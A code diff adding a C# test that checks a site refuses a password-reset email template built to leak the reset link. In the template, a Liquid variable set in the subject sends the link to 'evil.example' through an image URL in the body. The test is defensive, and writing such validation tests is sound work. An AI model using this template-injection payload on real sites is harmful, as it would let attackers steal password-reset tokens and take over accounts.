@@ -161,6 +161,23 @@ public sealed partial class SecretTemplatesTests(SecretTemplatesSite fixture) : 
     }
 
     [Fact]
+    public async Task A_host_assigned_in_the_subject_and_used_in_the_body_is_refused_too()
+    {
+        // The three parts render in one context, so a variable assigned in one reaches the others.
+        using var admin = await Site.AdminClientAsync();
+
+        using var response = await admin.PostFormAsync(PasswordReset, [
+            new("Subject", "Reset{% assign away = 'https://evil.example/?' %}"),
+            new("HtmlBody", "<img src=\"{{ away }}{{ link }}\">"),
+            new("TextBody", "{{ link }}"),
+            new("Submit", "save")]);
+
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Contains("another host (evil.example)", WebUtility.HtmlDecode(Html.FieldError(await response.Content.ReadAsStringAsync(), "HtmlBody")), StringComparison.Ordinal);
+        Assert.False(await Site.WithDbAsync(db => db.EmailTemplates.AnyAsync()));
+    }
+
+    [Fact]
     public async Task The_administrator_may_link_to_the_site_itself_and_show_other_hosts_images_without_secrets()
     {
         using var admin = await Site.AdminClientAsync();
